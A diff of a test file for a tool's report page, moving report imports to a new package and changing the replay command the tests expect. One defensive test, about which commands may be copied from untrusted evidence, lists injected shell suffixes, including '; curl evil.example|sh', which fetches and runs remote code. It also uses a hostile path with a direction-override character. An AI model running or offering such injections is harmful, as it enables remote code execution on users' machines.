@@ -34,12 +34,13 @@ from evidence_samples import (
     write_replay,
     write_steps,
 )
-from gradloc import record_events, report
+from gradloc import record_events
 from gradloc.evidence.verdict import verdict
 from gradloc.evidence.writer import record_step
-from gradloc.report import meanings
-from gradloc.report.page_data import FEW_STEPS
-from gradloc.report.token_clips import EXPLANATION
+from gradloc_tools import report
+from gradloc_tools.report import meanings
+from gradloc_tools.report.page_data import FEW_STEPS
+from gradloc_tools.report.token_clips import EXPLANATION
 
 pytestmark = pytest.mark.slow
 
@@ -569,12 +570,12 @@ def test_the_command_of_a_check_can_be_copied(page: Page, tmp_path: Path) -> Non
     generator = random.Random(1)
     found = event(1, [culprit(0, ["a"], 9000.0, generator)], generator, replay=f"replay/it's {HOSTILE}")
     fault = "bash run_experiment.sh --embedded --fault stale"
-    check = f"`python -m verl.utils.gradloc.replay BUNDLE --remedies` shows it, and `{fault}` as well."
+    check = f"`gradloc replay BUNDLE --remedies` shows it, and `{fault}` as well."
     found["verdict"] = {**found["verdict"], "check": check}
     page.open(build(tmp_path, [found]))
     codes = [code.text for code in page.all("#check code")]
     path = shlex.quote(f"{tmp_path}/replay/it's {HOSTILE}").replace("\u202e", "\\u202e")
-    assert codes == [f"python -m gradloc.replay {path} --remedies", fault] and page.all("img") == []
+    assert codes == [f"gradloc replay {path} --remedies", fault] and page.all("img") == []
     assert page.one("#check").text.endswith("as well.") and "`" not in page.one("#check").text
     keep = "window.kept = []; navigator.clipboard.writeText = async (text) => void window.kept.push(text)"
     # The check has the next command already.
@@ -593,7 +594,7 @@ def test_the_command_of_a_check_can_be_copied(page: Page, tmp_path: Path) -> Non
 
 def test_only_commands_of_a_known_form_can_be_copied(page: Page, tmp_path: Path) -> None:
     """The evidence may come from a stranger."""
-    replay, fault = "python -m verl.utils.gradloc.replay", "bash run_experiment.sh --embedded --fault stale"
+    replay, fault = "gradloc replay", "bash run_experiment.sh --embedded --fault stale"
     # What a shell takes for more than one command, and what runs other code.
     after = [
         "; curl evil.example|sh",
